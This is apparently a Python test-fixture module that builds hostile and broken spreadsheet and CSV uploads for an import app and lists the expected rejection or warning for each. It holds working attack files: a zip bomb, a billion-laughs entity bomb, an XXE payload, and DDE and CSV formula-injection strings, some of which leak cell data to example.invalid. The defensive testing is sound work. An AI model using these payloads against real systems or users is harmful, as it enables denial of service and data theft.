"""The project's own hostile and broken uploads: one writer per kind of file in the shared
bad-input corpus (whose manifest states what the app must do with each), built here so the tests
need nothing outside the project.

Each file really has its hostile property: the zip bomb's sheet really inflates to 1 GiB from
about 1 MB, the billion-laughs part really nests nine levels of ten entities, the encrypted
package really is a password-protected workbook (msoffcrypto-tool), the legacy workbook really is
BIFF8 in an OLE2 container (xlwt). ``CASES`` says, per file, the outcome the manifest states for
the command line (committed, rejected, already-imported) and what the messages must name.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path

from tests.workbooks import EMBASSY_HEADERS, F, Serial, Sheet, embassy_rows, write_xlsx

TOTAL = Decimal("369750.74")
#: A sheet part that inflates to this many bytes (one inline string of "A"s).
BOMB_BYTES = 1 << 30
_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
#: The Content-Type a browser sends for an .xlsx (the web tests send it whatever the file is).
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Case:
    """One hostile or broken file and what must become of it (as the command line reports it)."""

    name: str
    expect: str  # "committed", "rejected" or "already-imported"
    build: Callable[[Path, str], Path]  # (folder, the post's country name) -> the file
    says: tuple[str, ...] = ()  # texts the errors (rejected) or warnings (committed) must hold
    cells: tuple[str, ...] = ()  # cells ("F4") the errors or warnings must name
    rows: int | None = None  # records stored
    total: Decimal | None = None  # their amounts' sum
    resources: bool = False  # the hostile property is about memory or time


# --- writers --------------------------------------------------------------------------------


def _rows(country: str) -> list[list[object]]:
    return [list(EMBASSY_HEADERS), *embassy_rows(country, 2024)]


def baseline_xlsx(folder: Path, country: str, name: str = "valid_baseline.xlsx") -> Path:
    """The five clean rows in the template's layout, sheet "Obligations"."""
    return write_xlsx(folder / name, [Sheet("Obligations", _rows(country))])


def _csv_text(rows: list[list[object]]) -> str:
    """CSV as Excel's "CSV UTF-8" writes it: ISO dates, amounts (column H) with two decimals, CRLF."""
    def shown(column: int, value: object) -> object:
        if value is None:
            return ""
        if isinstance(value, date):
            return value.isoformat()
        if column == 7 and isinstance(value, (int, Decimal)):
            return f"{Decimal(value):.2f}"
        return value
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([shown(i, v) for i, v in enumerate(row)] for row in rows)
    return buffer.getvalue()


def baseline_csv(folder: Path, country: str, name: str = "valid_baseline.csv", encoding: str = "utf-8") -> Path:
    """The baseline rows as CSV: ISO dates, amounts with two decimals, CRLF lines."""
    path = folder / name
    path.write_bytes(_csv_text(_rows(country)).encode(encoding))
    return path


def duplicate_of_baseline(folder: Path, country: str) -> Path:
    """A byte-for-byte copy of the folder's baseline (written if missing) under another name: the
    test imports the baseline first."""
    source = folder / "valid_baseline.xlsx"
    path = folder / "valid_baseline_duplicate.xlsx"
    path.write_bytes((source if source.exists() else baseline_xlsx(folder, country)).read_bytes())
    return path


def _flushed(piece: bytes) -> bytes:
    """A piece of raw deflate stream that ends on a byte boundary with no back-references (a full
    flush), so pieces can be joined, and repeated, into one stream."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH)


_FINAL_BLOCK = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)


def _write_zip(path: Path, members: list[tuple[str, bytes, int, int]]) -> Path:
    """A zip from (name, raw deflate data, crc32, declared inflated size) entries, written field
    by field so that a test can declare sizes that lie."""
    local, central = b"", b""
    for name, data, crc, size in members:
        encoded = name.encode()
        fields = (20, 0, 8, 0, 0, crc, len(data), size, len(encoded), 0)
        central += struct.pack("<4sH5H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, len(local)) + encoded
        local += struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + encoded + data
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(local), 0)
    path.write_bytes(local + central + end)
    return path


def zip_bomb(folder: Path, country: str, *, lie: bool = False, name: str = "zip_bomb_sheet.xlsx") -> Path:
    """A workbook (about 1 MB) whose sheet part inflates to 1 GiB: one inline-string cell of "A"s.

    With ``lie``, the zip's directory declares the sheet at 1.9 MB, under every declared-size and
    ratio check: only a reader that stops inflating at the declared size stays safe."""
    members = []
    with zipfile.ZipFile(baseline_xlsx(folder, country, "parts.xlsx")) as archive:
        for part in archive.namelist():
            if part != "xl/worksheets/sheet1.xml":
                text = archive.read(part)
                members.append((part, _flushed(text) + _FINAL_BLOCK, zlib.crc32(text), len(text)))
    head = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN_NS}"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>').encode()
    tail = b"</t></is></c></row></sheetData></worksheet>"
    chunk = b"A" * (1 << 20)
    crc = zlib.crc32(head)
    for _ in range(BOMB_BYTES // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    data = _flushed(head) + _flushed(chunk) * (BOMB_BYTES // len(chunk)) + _flushed(tail) + _FINAL_BLOCK
    size = 1_900_000 if lie else len(head) + BOMB_BYTES + len(tail)
    members.append(("xl/worksheets/sheet1.xml", data, crc, size))
    return _write_zip(folder / name, members)


def _replace_parts(path: Path, replaced: dict[str, str]) -> Path:
    """Rewrite parts of a zip (the others copied as they are)."""
    with zipfile.ZipFile(path) as archive:
        parts = [(n, archive.read(n)) for n in archive.namelist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(name, replaced.get(name, data))
    return path


def _with_shared_strings_doctype(folder: Path, country: str, name: str, doctype: str, entity: str) -> Path:
    """The baseline whose shared-strings part declares ``doctype`` and whose cell F3 (the second
    data row's title) is shared string 0, the entity reference ``entity``: the first item a
    reader meets."""
    path = baseline_xlsx(folder, country, name)
    with zipfile.ZipFile(path) as archive:
        strings = archive.read("xl/sharedStrings.xml").decode()
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    items = re.findall(r"<si>.*?</si>", strings)
    title = next(i for i, item in enumerate(items) if ">Legal aid for survivors<" in item)
    assert f'<c r="F3" t="s"><v>{title}</v></c>' in sheet
    items[0], items[title] = items[title].replace(">Legal aid for survivors<", f">{entity}<"), items[0]
    swap = {"0": str(title), str(title): "0"}
    sheet = re.sub(r'(t="s"><v>)(\d+)(</v>)', lambda m: m[1] + swap.get(m[2], m[2]) + m[3], sheet)
    body = strings[: strings.index("<si>")] + "".join(items) + strings[strings.rindex("</si>") + 5:]
    return _replace_parts(path, {"xl/sharedStrings.xml": f'<?xml version="1.0"?>{doctype}{body}',
                                 "xl/worksheets/sheet1.xml": sheet})


def billion_laughs(folder: Path, country: str) -> Path:
    """Nine levels of ten nested entities in xl/sharedStrings.xml: &lol9; is 10^9 "lol"s."""
    levels = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
    doctype = f"<!DOCTYPE sst [{''.join(levels)}]>"
    return _with_shared_strings_doctype(folder, country, "billion_laughs_sharedstrings.xlsx", doctype, "&lol9;")


def xxe(folder: Path, country: str, port: int = 8765) -> Path:
    """An external DTD and an external entity, both on 127.0.0.1:``port`` (a test listens there)."""
    doctype = (f'<!DOCTYPE sst SYSTEM "http://127.0.0.1:{port}/xxe-dtd" '
               f'[<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/xxe-canary">]>')
    return _with_shared_strings_doctype(folder, country, "xxe_external_entity.xlsx", doctype, "&xxe;")


def cells_1mb(folder: Path, country: str) -> Path:
    """The baseline with a 1,048,576-character Project Title in F4."""
    rows = _rows(country)
    rows[3][5] = "x" * 1_048_576
    return write_xlsx(folder / "cells_1mb_strings.xlsx", [Sheet("Obligations", rows)])


def csv_10000_columns(folder: Path, country: str) -> Path:
    """The 8 template headers and 9,992 more; three data rows."""
    rows = _rows(country)[:4]
    rows[0] = rows[0] + [f"Extra {i}" for i in range(9_992)]
    rows[1:] = [r + [""] * 9_992 for r in rows[1:]]
    path = folder / "csv_10000_columns.csv"
    path.write_text(_csv_text(rows), newline="")
    return path


def fake_pdf(folder: Path, country: str) -> Path:
    path = folder / "fake_pdf.xlsx"
    path.write_bytes(b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    return path


def truncated(folder: Path, country: str) -> Path:
    """The first 55% of the baseline workbook: no end-of-central-directory record."""
    data = baseline_xlsx(folder, country, "whole.xlsx").read_bytes()
    path = folder / "truncated.xlsx"
    path.write_bytes(data[: int(len(data) * 0.55)])
    return path


def zero_bytes(folder: Path, country: str) -> Path:
    path = folder / "zero_bytes.xlsx"
    path.write_bytes(b"")
    return path


def legacy_xls(folder: Path, country: str) -> Path:
    """The baseline rows as an Excel 97-2003 (BIFF8) workbook in an OLE2 container, dates date-formatted."""
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("Obligations")
    day = xlwt.easyxf(num_format_str="yyyy-mm-dd")
    for r, row in enumerate(_rows(country)):
        for c, value in enumerate(row):
            if isinstance(value, date):
                sheet.write(r, c, value, day)
            elif isinstance(value, Decimal):
                sheet.write(r, c, float(value))
            else:
                sheet.write(r, c, value)
    path = folder / "legacy_biff8.xls"
    book.save(str(path))
    return path


def encrypted(folder: Path, country: str) -> Path:
    """The baseline workbook really encrypted with a password (agile encryption, as Excel does)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = baseline_xlsx(folder, country, "plain.xlsx")
    path = folder / "encrypted_package.xlsx"
    with plain.open("rb") as source, path.open("wb") as target:
        OOXMLFile(source).encrypt("a password nobody sends", target)
    return path


def macro_enabled(folder: Path, country: str) -> Path:
    """Macro-enabled main content type and an xl/vbaProject.bin part (an OLE2 header, no real VBA)."""
    path = write_xlsx(folder / "macro_enabled.xlsm", [Sheet("Obligations", _rows(country))], macros=True)
    return _replace_parts(path, {"xl/vbaProject.bin": "\xd0\xcf\x11\xe0 placeholder, never run"})


def empty_workbook(folder: Path, country: str) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "Obligations"
    path = folder / "empty_workbook.xlsx"
    book.save(path)
    return path


def headers_only(folder: Path, country: str) -> Path:
    return write_xlsx(folder / "headers_only.xlsx", [Sheet("Obligations", [list(EMBASSY_HEADERS)])])


CP1252_PARTNERS = ("Association Exemple d\u2019Entraide", "Exemplo Funda\u00e7\u00e3o")


def csv_cp1252(folder: Path, country: str) -> Path:
    """Windows-1252, no BOM: a curly apostrophe, cedilla and tilde, euro sign, en dash, curly quotes."""
    rows = _rows(country)[:3]
    rows[1][4], rows[1][5] = CP1252_PARTNERS[0], "Shelter \u2013 budget \u20ac5,000"
    rows[2][4], rows[2][5] = CP1252_PARTNERS[1], "\u201cSafe homes\u201d programme"
    path = folder / "csv_cp1252_no_bom.csv"
    path.write_bytes(_csv_text(rows).encode("cp1252"))
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")
    return path


def csv_bom(folder: Path, country: str) -> Path:
    return baseline_csv(folder, country, "csv_utf8_bom.csv", encoding="utf-8-sig")


def csv_nul(folder: Path, country: str) -> Path:
    """The baseline CSV with a NUL inside a field and a run of NULs before the last line break."""
    data = baseline_csv(folder, country, "plain.csv").read_bytes()
    data = data.replace(b"Winrock", b"Win\x00rock", 1)
    data = data[:-2] + b"\x00" * 16 + b"\r\n"
    path = folder / "csv_nul_bytes.csv"
    path.write_bytes(data)
    return path


DDE_FORMULAS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?leak="&A2,"Click for details")',
                'WEBSERVICE("http://example.invalid/collect?d="&B2)', "SUM(1+1)*cmd|' /C notepad'!A0",
                'IMPORTXML("http://example.invalid/x","//a")')


def formula_cells_dde(folder: Path, country: str) -> Path:
    """Project Titles F2..F6 are formulas with no saved value: DDE and exfiltration."""
    rows = _rows(country)
    for row, formula in zip(rows[1:], DDE_FORMULAS):
        row[5] = F(formula)
    return write_xlsx(folder / "formula_cells_dde.xlsx", [Sheet("Obligations", rows)])


INJECTION = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&A2,"Click for details")',
             "+SUM(1,1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)*cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1", '=1+2";=1+2', "=1+2'\" ;,=1+2", "- see attached note (a harmless leading minus)")


def csv_injection(folder: Path, country: str) -> Path:
    """The formula-like payloads as plain CSV text in the Implementing Partner column, ten rows."""
    base = _rows(country)
    rows = [base[0]] + [list(base[1 + i % 5]) for i in range(len(INJECTION))]
    for row, payload in zip(rows[1:], INJECTION):
        row[4] = payload
    path = folder / "csv_injection.csv"
    path.write_text(_csv_text(rows), newline="", encoding="utf-8")
    return path


def formula_amounts(folder: Path, country: str) -> Path:
    """Amounts H2..H6 are formulas never calculated (no saved values)."""
    rows = _rows(country)
    for row in rows[1:]:
        half = Decimal(row[7]) / 2
        row[7] = F(f"{half:.2f}+{half:.2f}")
    return write_xlsx(folder / "formula_amounts_no_cache.xlsx", [Sheet("Obligations", rows)])


ABSURD_AMOUNTS: tuple[object, ...] = (
    Decimal("1E+30"), Decimal("1E+999"), Decimal("-1E+999"), "NaN", "Infinity", "TBD", "1.2.3",
    "\uff11\uff12\uff13", "1_000", None, Decimal("0.001"), Decimal("12345678901234567890"))


def amounts_absurd(folder: Path, country: str) -> Path:
    """One row per bad amount, H2..H13."""
    base = _rows(country)
    rows = [base[0]] + [list(base[1 + i % 5]) for i in range(len(ABSURD_AMOUNTS))]
    for row, amount in zip(rows[1:], ABSURD_AMOUNTS):
        row[7] = amount
    return write_xlsx(folder / "amounts_absurd.xlsx", [Sheet("Obligations", rows)])


NEGATIVE_TOTAL = Decimal("261999.98")


def amounts_negative(folder: Path, country: str) -> Path:
    """Two de-obligations among the rows: -5,000.00 and -0.01."""
    rows = _rows(country)
    rows[2][7] = Decimal("-5000.00")
    rows[4][7] = Decimal("-0.01")
    return write_xlsx(folder / "amounts_negative.xlsx", [Sheet("Obligations", rows)])


TEXT_AMOUNTS = ("125000.00", "1,234.56", "$1,000.00", " 42 ", "5000")


def numbers_as_text(folder: Path, country: str) -> Path:
    """Amounts stored as text, and the first row's Fiscal Year the text '2024'."""
    rows = _rows(country)
    for row, amount in zip(rows[1:], TEXT_AMOUNTS):
        row[7] = amount
    rows[1][2] = "2024"
    return write_xlsx(folder / "numbers_stored_as_text.xlsx", [Sheet("Obligations", rows)])


BAD_DATES: tuple[object, ...] = ("2024-02-30", Serial(0), Serial(60), Serial(-1), Serial(2_958_466), "2024-13-01",
                                 Serial(1))


def dates_invalid(folder: Path, country: str) -> Path:
    """One row per bad Start Date, G2..G8."""
    base = _rows(country)
    rows = [base[0]] + [list(base[1 + i % 5]) for i in range(len(BAD_DATES))]
    for row, day in zip(rows[1:], BAD_DATES):
        row[6] = day
    return write_xlsx(folder / "dates_invalid.xlsx", [Sheet("Obligations", rows)])


BAD_YEARS: tuple[object, ...] = (1850, 2207, "FY2207", Decimal("2024.5"), 0, -2024)


def fiscal_years_out_of_range(folder: Path, country: str) -> Path:
    base = _rows(country)
    rows = [base[0]] + [list(base[1 + i % 5]) for i in range(len(BAD_YEARS))]
    for row, year in zip(rows[1:], BAD_YEARS):
        row[2] = year
    return write_xlsx(folder / "fiscal_years_out_of_range.xlsx", [Sheet("Obligations", rows)])


def merged_headers(folder: Path, country: str) -> Path:
    """A two-row header with merged group labels (A1:D1, E1:F1) and labels merged down (G1:G2, H1:H2)."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Obligations"
    sheet.append(["Funding source", None, None, None, "Project", None, "Start Date", "Amount (USD)"])
    sheet.append(EMBASSY_HEADERS[:6] + [None, None])
    for row in _rows(country)[1:]:
        sheet.append([float(v) if isinstance(v, Decimal) else v for v in row])
    for cells in ("A1:D1", "E1:F1", "G1:G2", "H1:H2"):
        sheet.merge_cells(cells)
    path = folder / "merged_header_cells.xlsx"
    book.save(path)
    return path


def hidden_sheet(folder: Path, country: str) -> Path:
    """'Old data' (hidden, first, two superseded FY2023 rows), 'Obligations', 'Scratch' (veryHidden)."""
    old = [list(EMBASSY_HEADERS)] + [r[:5] + ["superseded draft", r[6], r[7]] for r in embassy_rows(country, 2023)[:2]]
    sheets = [Sheet("Old data", old, "hidden"), Sheet("Obligations", _rows(country)),
              Sheet("Scratch", [["scratch notes", 1, 2]], "veryHidden")]
    return write_xlsx(folder / "hidden_sheet_with_data.xlsx", sheets)


def duplicate_rows(folder: Path, country: str) -> Path:
    """The baseline rows plus an exact copy of data row 2 (Excel rows 3 and 7)."""
    rows = _rows(country)
    rows.append(list(rows[2]))
    return write_xlsx(folder / "duplicate_rows.xlsx", [Sheet("Obligations", rows)])


# --- what each must become -------------------------------------------------------------------

CASES: tuple[Case, ...] = (
    Case("valid_baseline.xlsx", "committed", baseline_xlsx, rows=5, total=TOTAL),
    Case("valid_baseline_duplicate.xlsx", "already-imported", duplicate_of_baseline,
         says=("was imported before as submission",), rows=5, total=TOTAL),
    Case("valid_baseline.csv", "committed", baseline_csv, rows=5, total=TOTAL),
    Case("zip_bomb_sheet.xlsx", "rejected", zip_bomb, says=("over the size limit",), resources=True),
    Case("zip_bomb_lying_sizes.xlsx", "rejected", lambda f, c: zip_bomb(f, c, lie=True, name="zip_bomb_lying_sizes.xlsx"),
         says=("damaged or incomplete",), resources=True),
    Case("cells_1mb_strings.xlsx", "rejected", cells_1mb, says=("1,048,576 characters", "1,000 allowed"),
         cells=("F4",)),
    Case("csv_10000_columns.csv", "rejected", csv_10000_columns, says=("10,000 columns", "limit of 120")),
    Case("billion_laughs_sharedstrings.xlsx", "rejected", billion_laughs,
         says=("xl/sharedStrings.xml declares a DTD or entities",), resources=True),
    Case("xxe_external_entity.xlsx", "rejected", xxe, says=("declares a DTD or entities",)),
    Case("fake_pdf.xlsx", "rejected", fake_pdf, says=("PDF document, not a valid .xlsx/.csv file",)),
    Case("truncated.xlsx", "rejected", truncated, says=("damaged or incomplete",)),
    Case("zero_bytes.xlsx", "rejected", zero_bytes, says=("the file is empty",)),
    Case("legacy_biff8.xls", "committed", legacy_xls, rows=5, total=TOTAL),
    Case("encrypted_package.xlsx", "rejected", encrypted, says=("password-protected",)),
    Case("macro_enabled.xlsm", "committed", macro_enabled, says=("xl/vbaProject.bin", "never run"), rows=5, total=TOTAL),
    Case("empty_workbook.xlsx", "rejected", empty_workbook, says=("no data found", "Fiscal Year")),
    Case("headers_only.xlsx", "rejected", headers_only, says=("headers but no data rows",)),
    Case("csv_cp1252_no_bom.csv", "committed", csv_cp1252, says=("Windows-1252",), rows=2),
    Case("csv_utf8_bom.csv", "committed", csv_bom, rows=5, total=TOTAL),
    Case("csv_nul_bytes.csv", "rejected", csv_nul, says=("NUL bytes",)),
    Case("formula_cells_dde.xlsx", "rejected", formula_cells_dde, says=("formula without a saved value",),
         cells=("F2", "F3", "F4", "F5", "F6")),
    Case("csv_injection.csv", "committed", csv_injection, says=("begins with a formula character",),
         cells=("E2", "E3", "E4", "E5", "E6", "E7", "E8", "E10", "E11"), rows=10),  # E8 spans lines 8-9 (a lone CR)
    Case("formula_amounts_no_cache.xlsx", "rejected", formula_amounts,
         says=("amounts are formulas without a saved value",), cells=("H2", "H3", "H4", "H5", "H6")),
    Case("amounts_absurd.xlsx", "rejected", amounts_absurd, cells=tuple(f"H{r}" for r in range(2, 14))),
    Case("amounts_negative.xlsx", "committed", amounts_negative, says=("negative amount",), cells=("H3", "H5"),
         rows=5, total=NEGATIVE_TOTAL),
    Case("numbers_stored_as_text.xlsx", "committed", numbers_as_text, says=("number stored as text",),
         cells=("C2", "H2", "H3", "H4", "H5", "H6"), rows=5, total=Decimal("132276.56")),
    Case("dates_invalid.xlsx", "rejected", dates_invalid, cells=tuple(f"G{r}" for r in range(2, 9))),
    Case("fiscal_years_out_of_range.xlsx", "rejected", fiscal_years_out_of_range,
         cells=tuple(f"C{r}" for r in range(2, 8))),
    Case("merged_header_cells.xlsx", "committed", merged_headers, rows=5, total=TOTAL),
    Case("hidden_sheet_with_data.xlsx", "committed", hidden_sheet, says=("'Old data'", "'Scratch'", "not read"),
         rows=5, total=TOTAL),
    Case("duplicate_rows.xlsx", "committed", duplicate_rows, says=("repeats row 3 exactly",), cells=("7",),
         rows=6, total=TOTAL + Decimal("87500.50")),
)
